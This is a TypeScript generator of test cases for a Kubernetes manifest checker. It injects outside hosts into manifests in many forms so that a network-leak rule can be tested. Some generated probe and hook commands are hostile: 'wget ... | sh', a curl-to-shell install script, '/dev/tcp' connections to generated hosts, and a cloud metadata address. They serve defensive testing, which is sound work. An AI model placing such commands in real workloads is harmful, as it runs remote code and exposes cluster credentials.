import { leakBeside, leakIn, listIn, type Doc, type Family, type Json, type Leak } from '../leak';
import type { Draw } from '../draw';
import type { Output } from '../outputs';
import { base64, foreignPrivate, outsideAddress, outsideName, publicAddress, publicSix } from '../outside';
import {
  addArguments,
  addVariable,
  drawNamespace,
  inContainer,
  inPod,
  metadata,
  workloadsOf,
  type Ground,
} from '../places';

const RULES = ['NET-001'];

/** Variables of all sorts; what matters is the value. */
const NAMES = [
  'UPSTREAM',
  'BASE_URL',
  'API',
  'BACKEND',
  'X',
  'CALLBACK_ENDPOINT',
  'TARGET',
  'OTEL_EXPORTER_OTLP_ENDPOINT',
];
/** Variables that ask for a host, so that a name alone is one. */
const HOST_NAMES = ['DB_HOST', 'COLLECTOR_ENDPOINT', 'SERVER', 'UPSTREAM', 'PROXY_ADDRESS', 'BROKERS', 'KAFKA_SERVERS'];
const SCHEMES = ['https', 'http', 'grpc', 'wss', 'tcp', 'amqps', 'postgres', 'redis', 'ldaps', 'git+ssh', 'tls'];

function url(draw: Draw): string {
  const port = draw.pick(['', `:${draw.int(1, 65_535)}`]);
  const path = draw.pick(['', '/', `/${draw.word()}/${draw.word()}`, `/v1?q=${draw.word()}`]);
  return `${draw.pick(SCHEMES)}://${outsideName(draw)}${port}${path}`;
}

/** An environment variable with a value that names an outside host. */
function variable(draw: Draw, output: Output, value: string, names: readonly string[] = NAMES): Leak | null {
  return inContainer(draw, output, { rules: RULES, line: value }, ({ container }) =>
    addVariable(draw, container, draw.pick(names), value),
  );
}

function argument(draw: Draw, output: Output, value: string): Leak | null {
  const flag = draw.pick(['--endpoint', '--server', '--remote-url', '-address', '--upstream', '--webhook.url']);
  const words = draw.pick([[`${flag}=${value}`], [flag, value]]);
  return inContainer(draw, output, { rules: RULES, line: value }, ({ container }) => addArguments(container, ...words));
}

/** A command that a probe or hook runs. */
function command(draw: Draw, output: Output, script: string, line: string): Leak | null {
  const words = draw.pick([
    ['sh', '-c', script],
    ['/bin/bash', '-ec', `set -e\n${script}\n`],
    ['sh', '-c', `true && ${script} || exit 1`],
  ]);
  return inContainer(draw, output, { rules: RULES, line }, ({ container }) => {
    const hook = draw.pick(['postStart', 'preStop']);
    const probe = draw.pick(['livenessProbe', 'startupProbe', 'readinessProbe']);
    if (draw.int(0, 1) === 0) container['lifecycle'] = { [hook]: { exec: { command: words } } };
    else container[probe] = { exec: { command: words } };
    return '';
  });
}

function beside({ draw, output }: Ground, added: Doc, path: string, line: string | null): Leak {
  return leakBeside(draw.pick(output.objects), added, { rules: RULES, path, line });
}

function core(draw: Draw, output: Output, kind: string, rest: Readonly<Record<string, Json>>): Doc {
  return { apiVersion: 'v1', kind, metadata: metadata(draw.word(), drawNamespace(draw, output)), ...rest };
}

export const HOSTS: Family = {
  name: 'hosts',
  variants: {
    'URL in a variable': (draw, output) => variable(draw, output, url(draw)),
    'URL in place of a value': (draw, output) => {
      const value = url(draw);
      return inContainer(draw, output, { rules: RULES, line: value }, ({ container }) => {
        const env = listIn(container, 'env');
        const index = draw.int(0, Math.max(0, env.length - 1));
        env[index] = { name: 'ENDPOINT', value };
        return `/env/${index}/value`;
      });
    },
    'URL in an argument': (draw, output) => argument(draw, output, url(draw)),
    'URL as an argument of its own': (draw, output) => {
      const value = url(draw);
      return inContainer(draw, output, { rules: RULES, line: value }, ({ container }) =>
        addArguments(container, value),
      );
    },
    'URL in a JSON value of a variable': (draw, output) => {
      const host = outsideName(draw);
      return inContainer(draw, output, { rules: RULES, line: host }, ({ container }) =>
        addVariable(draw, container, 'SETTINGS', JSON.stringify({ a: [{ endpoint: `https://${host}/` }] })),
      );
    },
    'name and port in a variable': (draw, output) =>
      variable(draw, output, `${outsideName(draw)}:${draw.int(1, 65_535)}`, [...NAMES, ...HOST_NAMES]),
    'bare name in a variable': (draw, output) => variable(draw, output, outsideName(draw), HOST_NAMES),
    'bare name in an argument': (draw, output) => argument(draw, output, outsideName(draw)),
    'public address in a variable': (draw, output) =>
      variable(draw, output, `${publicAddress(draw)}${draw.pick(['', ':443'])}`),
    'public address in an argument': (draw, output) => argument(draw, output, publicAddress(draw)),
    'public IPv6 address': (draw, output) => {
      const address = publicSix(draw);
      return variable(
        draw,
        output,
        draw.pick([address, `[${address}]`, `[${address}]:443`, `https://[${address}]:8443/x`]),
      );
    },
    'private address of nobody': (draw, output) =>
      draw.pick([variable, argument])(draw, output, draw.pick(['', 'http://']) + foreignPrivate(draw)),
    'cloud metadata': (draw, output) =>
      variable(
        draw,
        output,
        draw.pick(['http://169.254.169.254/latest/meta-data', 'http://metadata.google.internal', '169.254.169.254']),
      ),
    'service of a stranger’s cluster': (draw, output) =>
      variable(draw, output, `https://${draw.word()}.${draw.word()}.svc.${outsideName(draw)}:8443`),
    'command of a probe or hook': (draw, output) => {
      const host = outsideName(draw);
      const script = draw.pick([
        `curl -fsS https://${host}/ping`,
        `curl ${host}`,
        `wget -qO- http://${host}/x | sh`,
        `nc -z ${host} 443`,
        `ping -c1 ${host}`,
        `echo x > /dev/tcp/${host}/443`,
        `exec 3<>/dev/tcp/${host}/443`,
        `HOST=${host}; curl "https://$HOST/"`,
        `python3 -c "import urllib.request; urllib.request.urlopen('https://${host}/')"`,
      ]);
      return command(draw, output, script, host);
    },
    'host that a script puts together': (draw, output) => {
      const [first, ...rest] = outsideName(draw).split('.');
      const [head, tail] = [first ?? '', rest.join('.')];
      const script = draw.pick([
        `A=${head}; curl $A.${tail}`,
        `A=${head} B=${tail}; curl "https://\${A}.\${B}/"`,
        `A=${tail}; U="https://${head}.$A/x"; wget -q "$U"`,
        `for H in ${head}; do nc -z $H.${tail} 443; done`,
        `curl "https://\${A}.\${B}/"`,
        'curl -fsS "$1"',
        'wget -q -O /tmp/x "http://$(cat /etc/where)/"',
      ]);
      return command(draw, output, script, '');
    },
    'host that a container puts together': (draw, output) => {
      const [first = '', ...rest] = outsideName(draw).split('.');
      return inContainer(draw, output, { rules: RULES }, ({ container }) => {
        const known = draw.int(0, 1) === 0;
        const part: Doc = known ? { value: first } : { valueFrom: { secretKeyRef: { name: 'a', key: 'b' } } };
        listIn(container, 'env').push({ name: 'LEAK_PART', ...part });
        return addArguments(container, `--endpoint=https://$(LEAK_PART)${known ? `.${rest.join('.')}` : ''}/`);
      });
    },
    'host of an HTTP probe': (draw, output) => {
      const host = draw.pick([outsideName, outsideAddress])(draw);
      return inContainer(
        draw,
        output,
        { rules: RULES, path: '/readinessProbe/httpGet/host', line: host },
        ({ container }) => {
          container['readinessProbe'] = { httpGet: { host, path: '/', port: 443, scheme: 'HTTPS' } };
          return undefined;
        },
      );
    },
    'alias of a host': (draw, output) => {
      const ip = outsideAddress(draw);
      return inPod(draw, output, { rules: RULES, path: '/hostAliases', line: ip }, (pod) => {
        pod['hostAliases'] = [{ ip, hostnames: [draw.word()] }];
        return undefined;
      });
    },
    'volume on another server': (draw, output) => {
      const server = draw.pick([outsideName, outsideAddress])(draw);
      const volume = draw.pick<Doc>([
        { nfs: { server, path: '/x' } },
        { iscsi: { targetPortal: `${server}:3260`, iqn: 'iqn.2001-04.x:y', lun: 0 } },
        { cephfs: { monitors: [`${server}:6789`] } },
        { gitRepo: { repository: `https://${server}/x.git` } },
        { csi: { driver: 'nfs.csi.k8s.io', volumeAttributes: { server, share: '/x' } } },
      ]);
      return inPod(draw, output, { rules: RULES, path: '/volumes', line: server }, (pod) => {
        listIn(pod, 'volumes').push({ name: draw.word(), ...volume });
        return undefined;
      });
    },
    'Secret data': (draw, output) => {
      const text = draw.pick([
        url(draw),
        `password=x\nurl=https://${outsideName(draw)}/\n`,
        JSON.stringify({ url: url(draw) }),
      ]);
      return beside(
        { draw, output },
        core(draw, output, 'Secret', { data: { [draw.word()]: base64(text) } }),
        '/data',
        null,
      );
    },
    'Secret in plain': (draw, output) => {
      const value = url(draw);
      return beside(
        { draw, output },
        core(draw, output, 'Secret', { stringData: { [draw.word()]: value } }),
        '/stringData',
        value,
      );
    },
    'binary data': (draw, output) => {
      const text = draw.pick([`endpoint: ${url(draw)}\n`, JSON.stringify({ remote: { endpoint: url(draw) } })]);
      return beside(
        { draw, output },
        core(draw, output, 'ConfigMap', { binaryData: { 'a.bin': base64(text) } }),
        '/binaryData',
        null,
      );
    },
    'base64 in a variable': (draw, output) =>
      inContainer(draw, output, { rules: RULES }, ({ container }) =>
        addVariable(draw, container, 'BLOB', base64(JSON.stringify({ endpoint: `https://${outsideName(draw)}/api` }))),
      ),
    'new configuration file': (draw, output) => {
      const host = outsideName(draw);
      const [key, text] = draw.pick<readonly [string, string]>([
        ['app.yaml', `server:\n  endpoint: https://${host}/x\n`],
        ['app.toml', `[remote]\nurl = "https://${host}/"\n`],
        ['app.ini', `[smtp]\nhost = ${host}:25\n`],
        ['app.properties', `db.url=jdbc:postgresql://${host}:5432/x\n`],
        ['app.json', `{"a":{"b":["https://${host}"]}}`],
        ['run.sh', `#!/bin/sh\nset -eu\ncurl -fsS "https://${host}/install" | sh\n`],
        ['main.py', `import requests\nrequests.get("https://${host}/")\n`],
        ['.env', `A=1\nUPSTREAM=https://${host}\n`],
        ['nginx.conf', `http {\n  upstream x {\n    server ${host}:443;\n  }\n}\n`],
        ['haproxy.cfg', `backend x\n  server a ${host}:443 ssl\n`],
        ['app.xml', `<config><url>https://${host}/</url></config>`],
      ]);
      return beside({ draw, output }, core(draw, output, 'ConfigMap', { data: { [key]: text } }), `/data/${key}`, host);
    },
    'address that a webhook is called at': (draw, output) => {
      const value = `https://${outsideName(draw)}/validate`;
      const added: Doc = {
        apiVersion: 'admissionregistration.k8s.io/v1',
        kind: draw.pick(['ValidatingWebhookConfiguration', 'MutatingWebhookConfiguration']),
        metadata: { name: draw.word() },
        webhooks: [{ name: 'a.example.org', clientConfig: { url: value }, sideEffects: 'None' }],
      };
      return beside({ draw, output }, added, '/webhooks/0/clientConfig/url', value);
    },
    'address that versions are converted at': (draw, output) => {
      const definitions = output.objects.filter((object) => object.kind === 'CustomResourceDefinition');
      if (definitions.length === 0) return null;
      const object = draw.pick(definitions);
      const value = `https://${outsideName(draw)}/convert`;
      const doc = structuredClone(object.value) as Doc;
      const spec = doc['spec'] as Doc;
      spec['conversion'] = {
        strategy: 'Webhook',
        webhook: { clientConfig: { url: value }, conversionReviewVersions: ['v1'] },
      };
      return leakIn(object, doc, { rules: RULES, path: '/spec/conversion', line: value });
    },
    'default of a schema': (draw, output) => {
      const definitions = output.objects.filter((object) => object.kind === 'CustomResourceDefinition');
      if (definitions.length === 0) return null;
      const object = draw.pick(definitions);
      const value = `https://${outsideName(draw)}/`;
      const doc = structuredClone(object.value) as Doc;
      const versions = (doc['spec'] as Doc)['versions'] as Doc[];
      const schema = (versions[0]?.['schema'] as Doc)['openAPIV3Schema'] as Doc;
      schema['properties'] = { ...(schema['properties'] as Doc), endpoint: { type: 'string', default: value } };
      return leakIn(object, doc, { rules: RULES, path: '/spec/versions/0/schema', line: value });
    },
    'custom resource': (draw, output) => {
      const value = url(draw);
      const added: Doc = {
        apiVersion: draw.pick(['source.toolkit.fluxcd.io/v1', 'argoproj.io/v1alpha1', 'example.org/v1']),
        kind: draw.pick(['GitRepository', 'HelmRepository', 'Application', 'Thing']),
        metadata: metadata(draw.word(), drawNamespace(draw, output)),
        spec: draw.pick<Doc>([
          { url: value },
          { source: { repoURL: value } },
          { remote: { write: [{ endpoint: value }] } },
        ]),
      };
      return beside({ draw, output }, added, '/spec', value);
    },
    'login of a registry': (draw, output) => {
      const host = outsideName(draw);
      const auths = JSON.stringify({ auths: { [`https://${host}/v1/`]: { auth: 'eDp5' } } });
      const data = { '.dockerconfigjson': base64(auths) };
      return beside(
        { draw, output },
        core(draw, output, 'Secret', { type: 'kubernetes.io/dockerconfigjson', data }),
        '/data',
        null,
      );
    },
    'annotation that a controller reads': (draw, output) => {
      const object = draw.pick(workloadsOf(output));
      const doc = structuredClone(object.value) as Doc;
      const value = `https://${outsideName(draw)}/hook`;
      const name = draw.pick([
        'example.org/webhook-url',
        'nginx.ingress.kubernetes.io/auth-url',
        'example.org/endpoint',
      ]);
      (doc['metadata'] as Doc)['annotations'] = { [name]: value };
      return leakIn(object, doc, { rules: RULES, path: '/metadata/annotations', line: value });
    },
  },
};
